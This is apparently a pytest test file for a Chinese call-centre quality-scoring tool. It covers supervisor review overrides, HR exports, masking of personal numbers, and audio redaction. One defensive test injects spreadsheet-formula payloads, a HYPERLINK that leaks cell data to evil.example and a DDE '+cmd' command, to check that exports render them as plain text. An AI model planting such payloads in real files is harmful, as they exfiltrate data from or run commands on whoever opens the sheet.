"""Supervisor decisions, final scores, HR exports and masking in everything shown or exported."""
from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
from dataclasses import replace

import pytest
from conftest import ROOT, SAMPLES, copy_store, raw_sql
from test_privacy import unmasked_numbers


def cli(*args, **kwargs):
    return subprocess.run([sys.executable, "-m", "qa_audio", *map(str, args)], capture_output=True, text=True,
                          cwd=ROOT, timeout=600, **kwargs)


@pytest.fixture
def store_copy(sample_store, new_store):
    """The scored sample calls, on each backend (SQLite, PostgreSQL)."""
    return copy_store(sample_store, new_store())


def test_overturn_recomputes_the_final_score_with_an_audit_trail(store_copy):
    from qa_audio.results.review import ReviewError, review_finding
    from qa_audio.results.store import open_store

    with open_store(store_copy) as store:
        call = store.find_call("banned_phrase")
        assert (call.result.score, call.final_score) == (70, None)
        score, verdict = review_finding(store, call, "BAN-1", decision="overturn", reason="客户原话，坐席在复述",
                                        reviewer="王主管")
        assert (score, verdict) == (100, "pass")
        call = store.find_call("banned_phrase")
        assert (call.final_score, call.final_verdict) == (100, "pass")
        assert call.result.score == 70                       # the machine's score is kept beside it
        # overturning a pass makes it a failure costing the rule's weight
        score, verdict = review_finding(store, call, "CLS-2", decision="overturn", reason="没有说再见",
                                        reviewer="王主管")
        weight = call.result.finding("CLS-2").weight
        assert score == 100 - weight
        # a confirmation changes nothing but is recorded
        call = store.find_call("banned_phrase")
        review_finding(store, call, "GRT-1", decision="confirm", reason="开场白完整", reviewer="李主管")
        trail = store.audit_trail(call_pk=call.pk)
        assert [(a["actor"], a["action"], a["rule"]) for a in trail] == [
            ("王主管", "review:overturn", "BAN-1"), ("王主管", "review:overturn", "CLS-2"),
            ("李主管", "review:confirm", "GRT-1")]
        first = trail[0]
        assert json.loads(first["before_json"])["final_score"] == 70
        assert json.loads(first["after_json"])["final_score"] == 100
        with pytest.raises(ReviewError, match="reason"):
            review_finding(store, call, "GRT-1", decision="confirm", reason=" ", reviewer="x")
        with pytest.raises(ReviewError, match="no finding"):
            review_finding(store, call, "XYZ-9", decision="confirm", reason="r", reviewer="x")


def test_review_cli_and_labels_for_backtest(store_copy, tmp_path):
    proc = cli("review", "bad_greeting", "GRT-1", "overturn", "--reason", "录音开头被截断", "--user", "张主管",
               "--db", store_copy)
    assert proc.returncode == 0, proc.stderr
    assert "final score 90 pass" in proc.stdout
    out = tmp_path / "labels.json"
    assert cli("labels", "--db", store_copy, "-o", out).returncode == 0
    labels = json.loads(out.read_text(encoding="utf-8"))
    assert labels["calls"] == {"bad_greeting": {"GRT-1": "pass"}}


def test_export_per_agent_matches_the_store_and_uses_final_scores(store_copy, tmp_path):
    from openpyxl import load_workbook

    assert cli("review", "banned_phrase", "BAN-1", "overturn", "--reason", "复述客户原话", "--user", "王主管",
               "--db", store_copy).returncode == 0
    out = tmp_path / "hr.xlsx"
    proc = cli("export", "--db", store_copy, "--period", "2026-11", "-o", out)
    assert proc.returncode == 0, proc.stderr
    wb = load_workbook(out)
    assert wb.sheetnames == ["按坐席", "各标准不合格次数", "通话", "说明"]          # Chinese by default
    rows = list(wb["按坐席"].values)
    header, body = rows[0], rows[1:]
    assert header[:4] == ("坐席工号", "坐席姓名", "班组", "通话") and "平均分" in header and "开场得分" in header
    agents = {r[0]: dict(zip(header, r)) for r in body}
    assert set(agents) == {"A1023", "A2088", "A3001"}                      # one row per agent
    li = agents["A2088"]                                                    # banned_phrase (overturned) + hold_ring
    assert (li["坐席姓名"], li["班组"], li["通话"]) == ("李强", "贷后一组", 2)
    assert li["平均分"] == 97.5 and li["合格率"] == 1 and li["复核比例"] == 0.5
    assert li["服务禁语得分"] == 100                                          # BAN-1 overturned: the section is whole
    failed = list(wb["各标准不合格次数"].values)
    per_rule = {r[0]: dict(zip(failed[0], r)) for r in failed[1:]}
    assert per_rule["A2088"]["BAN-1 不合格次数"] == 0 and per_rule["A2088"]["ANS-1 不合格次数"] == 1
    zhang = agents["A3001"]                                                 # bad_greeting 75 + no_closing 80
    assert (zhang["平均分"], zhang["中位数"], zhang["合格率"]) == (77.5, 77.5, 0)
    assert per_rule["A3001"]["GRT-1 不合格次数"] == 1 and per_rule["A3001"]["CLS-2 不合格次数"] == 1
    assert isinstance(zhang["通话"], int) and isinstance(zhang["平均分"], float)      # typed cells
    calls = list(wb["通话"].values)
    assert len(calls) == 6
    by_id = {r[0]: dict(zip(calls[0], r)) for r in calls[1:]}
    assert by_id["banned_phrase"]["系统评分"] == 70 and by_id["banned_phrase"]["最终得分"] == 100
    assert by_id["banned_phrase"]["已复核"] == "是" and by_id["banned_phrase"]["结论"] == "合格"
    assert by_id["bad_greeting"]["不合格标准"] == "GRT-1, GRT-2"
    assert by_id["bad_greeting"]["开场得分"] == round(100 * (45 - 25) / 45, 1)   # GRT-1 15 + GRT-2 10 of 45
    assert by_id["compliant"]["通话时间"].year == 2026                      # a real date cell
    for ws in wb.worksheets[:3]:                                            # printable: A4 landscape, one page wide
        assert (ws.page_setup.orientation, ws.page_setup.paperSize, ws.page_setup.fitToWidth) == ("landscape", 9, 1)
        assert ws.print_title_rows == "$1:$1"                                # the heading row on every page
    english = tmp_path / "hr-en.xlsx"
    assert cli("export", "--db", store_copy, "--period", "2026-11", "--language", "en", "-o", english).returncode == 0
    heading = next(iter(load_workbook(english)["By agent"].values))
    assert heading[:4] == ("Agent ID", "Agent name", "Team", "Calls")
    about = dict(wb["说明"].values)
    assert about["期间"] == "2026-11" and about["起始日期"] == "2026-11-01" and about["截止日期"] == "2026-11-30"
    assert "2026.11-2" in about["规则版本"] and about["模型"] and about["分组"] == "按坐席"
    # the same export twice gives the same bytes
    again = tmp_path / "hr2.xlsx"
    cli("export", "--db", store_copy, "--period", "2026-11", "-o", again)
    assert again.read_bytes() == out.read_bytes()


def test_export_csv_has_a_bom_and_team_rows_and_json(store_copy, tmp_path):
    out = tmp_path / "hr.csv"
    proc = cli("export", "--db", store_copy, "--period", "2026-11-01..2026-11-04", "--by", "team", "-o", out)
    assert proc.returncode == 0, proc.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert {r["班组"]: int(r["通话"]) for r in rows} == {"贷后一组": 2, "贷后二组": 1}
    english = tmp_path / "en.yaml"                    # an English-first centre: review.language in its config
    english.write_text(f"extends: {ROOT / 'configs' / 'default.yaml'}\nreview:\n  language: en\n", encoding="utf-8")
    out_en = tmp_path / "hr-en.csv"
    assert cli("export", "--db", store_copy, "--period", "2026-11", "--config", english, "-o", out_en).returncode == 0
    assert out_en.read_text(encoding="utf-8-sig").startswith("Agent ID,Agent name,Team,Calls,Mean score")
    calls = (tmp_path / "hr-calls.csv").read_bytes().decode("utf-8-sig")
    assert calls.count("\r\n") == 4
    out_json = tmp_path / "hr.json"
    assert cli("export", "--db", store_copy, "--period", "2026-W45", "-o", out_json).returncode == 0
    data = json.loads(out_json.read_text(encoding="utf-8"))
    assert data["about"]["from"] == "2026-11-02" and data["about"]["calls"] == 5
    bad = cli("export", "--db", store_copy, "--period", "November", "-o", out_json)
    assert bad.returncode == 1 and "period 'November'" in bad.stderr


def test_personal_numbers_never_leave_unmasked(store_copy, tmp_path, scorer):
    """A call where the customer gives a phone, ID-card and bank-card number: show, JSON and export mask them."""
    from qa_audio.results.store import open_store
    from qa_audio.speech.words import Utterance, Word

    said = ["我的手机是幺三八，零零幺三，八零零零", "身份证号三四零二零三一九三七零幺零幺零五幺X",
            "卡号6222 0212 3456 7890 128"]
    with open_store(store_copy) as store:
        call = store.find_call("compliant")
        analysis = call.analysis
        extra = tuple(Utterance("customer", 30.0 + i, 30.8 + i, text, (Word(30.0 + i, 30.8 + i, text, 0.9),))
                      for i, text in enumerate(said))
        analysis = replace(analysis, utterances=analysis.utterances + extra)
        result = scorer.judge(analysis).to_dict()
        assert unmasked_numbers(json.dumps(result, ensure_ascii=False))         # the raw result has them
        store.save_call(sha256="f" * 64, path=str(tmp_path / "pii_call.wav"), size_bytes=1, call_id="pii_call",
                        metadata={"agent_id": "A1023", "call_time": "2026-11-07T10:00:00", "missing": []},
                        analysis=analysis.to_dict(), result=result, run_id=None)
    outputs = [cli("show", "pii_call", "--db", store_copy).stdout,
               cli("show", "pii_call", "--db", store_copy, "--json").stdout]
    assert "***，****，八零零零" in outputs[0]
    for fmt in ("xlsx", "csv", "json"):
        target = tmp_path / f"hr.{fmt}"
        assert cli("export", "--db", store_copy, "--period", "2026-11", "-o", target).returncode == 0
        outputs.append(target.read_bytes().decode("utf-8", "replace") if fmt != "xlsx" else
                       json.dumps([list(ws.values) for ws in __import__("openpyxl").load_workbook(target)],
                                  ensure_ascii=False, default=str))
    for text in outputs:
        assert not unmasked_numbers(text)


def test_mask_in_store_keeps_numbers_off_the_disk(tmp_path, scorer):
    from qa_audio.batch.runner import Progress, run_batch
    from qa_audio.config import load_config
    from qa_audio.pipeline import Scorer

    shutil.copytree(ROOT / "configs", tmp_path / "configs")
    shutil.copytree(ROOT / "lexicons", tmp_path / "lexicons")
    path = tmp_path / "configs" / "default.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("mask_in: display", "mask_in: store"), encoding="utf-8")
    config = load_config(path)

    class SaysANumber(Scorer):
        def analyze(self, audio):
            from qa_audio.speech.transcribe import Utterance, Word

            a = super().analyze(audio)
            text = "手机号码13800138000"
            return replace(a, utterances=a.utterances + (Utterance("customer", 17.0, 18.0, text,
                                                                   (Word(17.0, 18.0, text, 0.9),)),))

    folder = tmp_path / "rec"
    folder.mkdir()
    shutil.copy(SAMPLES / "bad_greeting.wav", folder)
    db = tmp_path / "results.sqlite"
    import io
    run_batch(folder, db=db, config=config, scorer=SaysANumber(config, model=scorer.model,
                                                               model_info=scorer._model_info),
              out_dir=tmp_path / "json", progress=Progress(0, stream=io.StringIO(), tty=False))
    raw = db.read_bytes() + (tmp_path / "json" / "bad_greeting.json").read_bytes()
    wal = db.with_name(db.name + "-wal")
    if wal.exists():
        raw += wal.read_bytes()
    assert b"13800138000" not in raw and b"*******8000" in raw


def test_redacted_audio_silences_the_spoken_number(tmp_path, scorer):
    import numpy as np
    import soundfile as sf

    from qa_audio.pipeline import Acoustics, Analysis
    from qa_audio.results.redact_audio import write_redacted_audio
    from qa_audio.results.store import StoredCall
    from qa_audio.speech.words import Utterance, Word

    src = tmp_path / "call.wav"
    rate = 8000
    tone = (0.3 * np.sin(2 * np.pi * 300 * np.arange(6 * rate) / rate)).astype(np.float32)
    sf.write(src, np.stack([tone, tone], axis=1), rate, subtype="PCM_16")
    words = [[1.0, 1.5, "手机", 0.9], [2.0, 4.0, "13800138000", 0.9], [4.5, 5.0, "好的", 0.9]]
    said = Utterance("customer", 1.0, 5.0, "手机13800138000好的", tuple(Word.from_list(w) for w in words))
    analysis = Analysis({"path": str(src)}, Acoustics(6.0, {}, {}, (), (), {}, {}), (said,), "model", "key")
    call = StoredCall(1, "call", "0" * 64, str(src), {}, None, analysis)
    out = tmp_path / "redacted.wav"
    spans = write_redacted_audio(call, out)
    assert spans == [(2.0, 4.0, "mobile")]
    data, got_rate = sf.read(out, always_2d=True)
    assert got_rate == rate and data.shape == (6 * rate, 2)
    assert np.abs(data[int(2.0 * rate): int(4.0 * rate)]).max() == 0
    assert np.abs(data[int(0.5 * rate): int(1.5 * rate)]).max() > 0.2


def test_formula_like_text_is_never_a_live_formula(store_copy, tmp_path):
    """HR opens these files: =HYPERLINK(…), +, -, @ in a name or team are shown as text (OWASP)."""
    import zipfile

    evil = {"agent_name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "team": "+cmd|' /C calc'!A0"}
    with raw_sql(store_copy) as conn:
        conn.execute("UPDATE calls SET agent_name = ?, team = ?", (evil["agent_name"], evil["team"]))
    xlsx, csv_path = tmp_path / "hr.xlsx", tmp_path / "hr.csv"
    assert cli("export", "--db", store_copy, "--period", "2026-11", "-o", xlsx).returncode == 0
    assert cli("export", "--db", store_copy, "--period", "2026-11", "-o", csv_path).returncode == 0
    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    assert any("HYPERLINK" in s for s in sheets)          # the text is there, as text
    import openpyxl

    wb = openpyxl.load_workbook(xlsx)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    for path in (csv_path, csv_path.with_name("hr-calls.csv")):
        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
        values = [v for row in rows[1:] for v in row]
        assert not any(v.startswith(("=", "+", "-", "@")) for v in values if v and not _number(v)), path
        assert any(v.startswith("'=HYPERLINK") for v in values) and any(v.startswith("'+cmd") for v in values)


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_the_hr_export_prints_legibly_on_a4_landscape_in_libreoffice(store_copy, tmp_path):
    """LibreOffice renders each sheet one A4 landscape page wide, Chinese headings, text at ≥ 70% size."""
    import os
    import re as regex
    import shutil

    office, pdftotext = shutil.which("soffice") or shutil.which("libreoffice"), shutil.which("pdftotext")
    if not office or not pdftotext:
        if os.environ.get("QA_AUDIO_REQUIRE_OFFICE"):
            pytest.fail("this check needs LibreOffice and poppler-utils (apt-get install libreoffice-calc-nogui "
                        "poppler-utils)")
        pytest.skip("LibreOffice or pdftotext not installed")
    out = tmp_path / "hr.xlsx"
    assert cli("export", "--db", store_copy, "--period", "2026-11", "-o", out).returncode == 0
    env = dict(os.environ, HOME=str(tmp_path))        # a fresh LibreOffice profile
    subprocess.run([office, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(out)],
                   capture_output=True, timeout=180, env=env, check=True)
    pdf = tmp_path / "hr.pdf"
    boxes = subprocess.run([pdftotext, "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    pages = boxes.split("<page ")[1:]
    assert len(pages) == 4                                       # four sheets, each one page wide
    for page in pages:
        width, height = (float(v) for v in regex.search(r'width="([\d.]+)" height="([\d.]+)"', page).groups())
        assert (round(width), round(height)) == (842, 595)      # A4 landscape, in points
    words = [(w, float(y1) - float(y0)) for y0, y1, w in
             regex.findall(r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">([^<]+)</word>', boxes)]
    assert all(f">{heading}</word>" in boxes for heading in ("坐席工号", "平均分", "合格率", "通话编号"))
    full = max(h for w, h in words if w == "坐席工号")         # an 11 pt heading at 100%
    for page in pages[:3]:
        cells = [float(y1) - float(y0) for y0, y1 in regex.findall(r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)"',
                                                                     page)]
        assert min(cells) >= 0.7 * full * 0.9, "a sheet prints too small to read"
